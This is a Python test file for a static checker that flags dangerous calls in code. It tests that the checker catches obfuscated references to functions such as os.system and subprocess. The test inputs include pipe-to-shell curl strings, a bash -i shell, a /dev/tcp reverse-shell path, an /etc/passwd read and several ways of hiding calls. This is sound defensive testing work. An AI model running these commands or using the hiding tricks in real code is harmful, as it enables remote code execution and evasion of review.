"""A module that no judged word selects has no fault, however it is written."""

from __future__ import annotations

import ast
import inspect
import itertools
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.checks.artifacts.dangerous_names import functions, modules, names, table
from agents.checks.artifacts.python import call_judgements, calls, faults
from agents.checks.artifacts.python.module_facts import ModuleFacts
from agents.checks.artifacts.python.names import SPAWN, Names
from agents.checks.artifacts.python.spellings import spellings
from agents.checks.artifacts.python.tree import ModuleTree
from agents.checks.artifacts.python.words import (
    JUDGED_KINDS,
    JUDGED_NAMES,
    JUDGED_WORDS,
    may_be_judged,
)
from tests.each import each

JUDGED = sorted(
    {
        name.replace("*", "spam")
        for name in spellings(
            (*(p for kind in JUDGED_KINDS for p in table().functions[kind]), *JUDGED_NAMES)
        )
    }
)
"""Names that the patterns match, what may be anything written out."""


def may_be(source: str) -> bool:
    """Return whether anything in a source may be judged."""
    tree = ModuleTree(ast.parse(source))
    return may_be_judged(tree, ModuleFacts(tree))


def faults_of(source: str, *, all_judged: bool = False) -> list[faults.CodeFault]:
    """Return the faults of a source; with all judged, whatever its words and nodes say."""
    with pytest.MonkeyPatch.context() as patch:
        if all_judged:
            patch.setattr(faults, "may_be_judged", lambda *_: True)
            patch.setattr(faults._Judge, "_judged", lambda judge: set(judge._tree.nodes))
            patch.setattr(Names, "_is_settled", lambda _: False)
        return faults.python_faults(source)


@each("kind", JUDGED_KINDS)
def test_the_spellings_of_a_pattern_match_it(kind: str) -> None:
    for pattern in table().functions[kind]:
        for name in spellings((pattern,)):
            assert re.fullmatch(pattern, name.replace("*", "spam")), (pattern, name)


def test_a_pattern_that_is_not_read_is_refused() -> None:
    for pattern in ("a{2}", "a\\d", "(a", "[^a]"):
        with pytest.raises(ValueError, match=r"not read|substring"):
            spellings((pattern,))


def written(name: str) -> list[str]:
    """Return sources that call a function of a full name, in the ways in which code hides names."""
    module, _, function = name.rpartition(".")
    top = name.partition(".")[0]
    plain = f"import {top}\n{name}(x)" if module else f"{name}(x)"
    if not module:
        return [plain, f"f = {name}\nf(x)", f"import builtins\nbuiltins.{name}(x)",
                f"__builtins__['{name[:2]}' + '{name[2:]}'](x)",
                f"getattr(__builtins__, {name[::-1]!r}[::-1])(x)", f"globals()[{name!r}](x)",
                f"from builtins import {name} as f\nf(x)"]  # fmt: skip
    halves = f"{function[:2]!r} + {function[2:]!r}"
    return [
        plain,
        f"import {module} as m\nm.{function}(x)",
        f"import {module} as m\nf = m.{function}\nf(x)",
        f"from {module} import {function} as f\nf(x)",
        f"import {module} as m\ngetattr(m, {halves})(x)",
        f"import {module} as m\nm.__dict__[{halves}](x)",
        f"k = {halves}\nimport {module} as m\nm[k](x)",
        f"__import__({module[::-1]!r}[::-1]).{function}(x)",
        (
            f"import importlib as i\nm = i.import_module('{module[:1]}' '{module[1:]}')\n"
            f"m.{function}(x)"
        ),
        f"import sys\nsys.modules['{module[:1]}' + '{module[1:]}'].{function}(x)",
    ]


@each("name", JUDGED)
def test_each_judged_name_is_met_however_it_is_written(name: str) -> None:
    for source in written(name):
        assert may_be(source), source


@each(
    "source",
    [
        "class A:\n  def f(self): return ().__class__.__base__.__subclasses__()",
        "f.__code__ = g.__code__",
        "f.__code__.replace(co_code=x)",
        "import sys\nsys.meta_path = []",
        "import pickle\npickle.Unpickler = X",
        "x = '/dev/' '/dev/tcp/1.2.3.4/80'",
        "def f(act): act('curl http://x ' + '| sh')",
        "def f(act): act(['bash', '-i'])",
        "import os\ngetattr(os, input())()",
        "import subprocess\nvars(subprocess)[x]()",
        "getattr(x['__builtins__'], y)()",
        "(lambda s: s)(s.recv(10))(1)",
        "from operator import methodcaller\nmethodcaller('system', 'id')(x)",
        "from pathlib import Path\nPath('/etc/passwd')",
        "x.write_text('y')",
        "import importlib.util as u\nu.spec_from_file_location('a', 'b.so')",
        "import socket as s\ns.socket().connect(x)",
        "x['o' + 's']['sys' + 'tem']('id')",
        "a = x['o' + 's']\na['sys' + 'tem']('id')",
        "\uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d('id')",
    ],
)  # fmt: skip
def test_other_judged_constructs_are_selected(source: str) -> None:
    assert may_be(source)


def test_modules_that_only_compute_are_not_judged() -> None:
    source = """
import torch
from torch import nn
class Layer(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.layers = nn.ModuleList([nn.Linear(config["size"], 4) for _ in range(3)])
    def forward(self, x, mask=None):
        for i, layer in enumerate(self.layers):
            x = layer(x)[:, 0] + self.layers[i](x)
        if mask is None:
            raise ValueError(f"no mask for {x.shape}")
        return x.eval()
"""
    assert not may_be(source)
    assert faults_of(source) == faults_of(source, all_judged=True) == []


def test_every_name_that_the_table_of_calls_writes_out_is_met() -> None:
    """A name that is judged and of which no word is known would be passed over."""
    tree = ast.parse(inspect.getsource(call_judgements))
    calls = next(
        node.value
        for node in tree.body
        if isinstance(node, ast.AnnAssign) and ast.unparse(node.target) == "CALLS"
    )
    assert calls is not None
    written_out = [
        node.value
        for node in ast.walk(calls)
        if isinstance(node, ast.Constant) and isinstance(node.value, str)
    ]
    assert len(written_out) > len(call_judgements.CALLS) // 2
    for name in written_out:
        assert may_be(f"x{name}(y)" if name.startswith(".") else f"{name}(y)"), name


def test_every_kind_of_function_that_python_source_is_judged_by_is_known() -> None:
    """Of the others, a call is only judged within the judgement of another."""
    patterns = {
        kind: functions(kind).pattern
        for kind in table().functions
        if functions(kind) in vars(calls).values() or functions(kind) is SPAWN
    }
    assert patterns.keys() - JUDGED_KINDS == {"secret", "host", "startup"}
    assert faults._INTROSPECTION <= JUDGED_WORDS


PARTS = st.sampled_from(
    sorted(
        {part for name in JUDGED for part in name.split(".")}
        | modules("code-path") | modules("hidden-lookup") | names("code-key")
        | {"getattr", "__dict__", "modules", "globals", "builtins", "x", "self", "model", "eval",
           "torch", "__class__", "__subclasses__", "recv", "f_builtins"}
    )
)  # fmt: skip
PART = PARTS.flatmap(
    lambda part: st.sampled_from(
        [f".{part}", f"[{part!r}]", f"[{part[:1]!r} + {part[1:]!r}]", f"[{part[::-1]!r}[::-1]]",
         f"['%s' % {part!r}]", f"[''.join({list(part)!r})]", "()", "[0]", f".get({part!r})", "[k]",
         f".__dict__[{part!r}]", f"[f'{part}']"]
    )
)  # fmt: skip
REFERENCE = st.tuples(PARTS, st.lists(PART, max_size=4)).map(lambda one: one[0] + "".join(one[1]))
ARGUMENT = st.sampled_from(
    [
        "x",
        "'curl http://1.2.3.4/a | sh'",
        "'cu' + 'rl x |' + ' sh'",
        "b'x'",
        "'id'",
        "y()",
        "'/dev'",
    ]
)
STATEMENT = st.one_of(
    st.tuples(REFERENCE, ARGUMENT).map(lambda one: f"{one[0]}({one[1]})"),
    REFERENCE.map(lambda one: f"y = {one}"),
    REFERENCE.map(lambda one: f"f(y, {one})"),
    PARTS.map(lambda one: f"k = {one!r}"),
    PARTS.map(lambda one: f"import {one} as self"),
    PARTS.map(lambda one: f"x = {one}"),
    REFERENCE.map(lambda one: f"x = {{'x': {one}, 'self': y}}"),
    REFERENCE.map(lambda one: f"x = lambda self: {one}"),
    st.tuples(PARTS, PARTS).map(lambda one: f"from {one[0]} import {one[1]} as model"),
    st.tuples(REFERENCE, REFERENCE).map(lambda one: f"getattr({one[0]}, {one[1]})()"),
    st.tuples(PARTS, REFERENCE).map(lambda one: f"{one[1]}.{one[0]} = y"),
    st.tuples(PARTS, PARTS).map(lambda one: f"getattr({one[0]}, {one[1][::-1]!r}[::-1])(y)"),
)


@given(st.lists(STATEMENT, min_size=1, max_size=6))
def test_source_with_a_fault_is_selected_for_judgement(statements: list[str]) -> None:
    source = "\n".join(itertools.chain(("def g(x, y): pass",), statements))
    try:
        ast.parse(source)
    except SyntaxError:
        return
    assert faults_of(source) == faults_of(source, all_judged=True)


def test_modules_of_which_only_one_part_of_a_judged_name_is_said_are_not_judged() -> None:
    for source in (
        "import asyncio\nasyncio.run(main())",
        "from pip._internal.utils import misc\nmisc.ask()",
        "import types\nx: types.ModuleType",
        "from urllib.parse import quote\nquote(x)",
    ):
        assert not may_be(source), source
    for source in (
        "import asyncio\nasyncio.create_subprocess_shell(x)",
        "import pip._internal.cli.main as m\nm.main()",
        "import types\ntypes.CodeType(x)",
        "import urllib2\nurllib2.build_opener()",
    ):
        assert may_be(source), source


@given(REFERENCE)
def test_a_reference_to_what_runs_ends_in_a_word_of_it(reference: str) -> None:
    tree = ModuleTree(ast.parse(f"import os, sh, subprocess as p\nk = 'sys' + 'tem'\n{reference}"))
    known = ModuleFacts(tree).names
    for node in tree.nodes:
        if isinstance(node, ast.Name | ast.Attribute | ast.Subscript):
            assert known.may_run(node) or not known.runs(known.dotted(node)), ast.unparse(node)
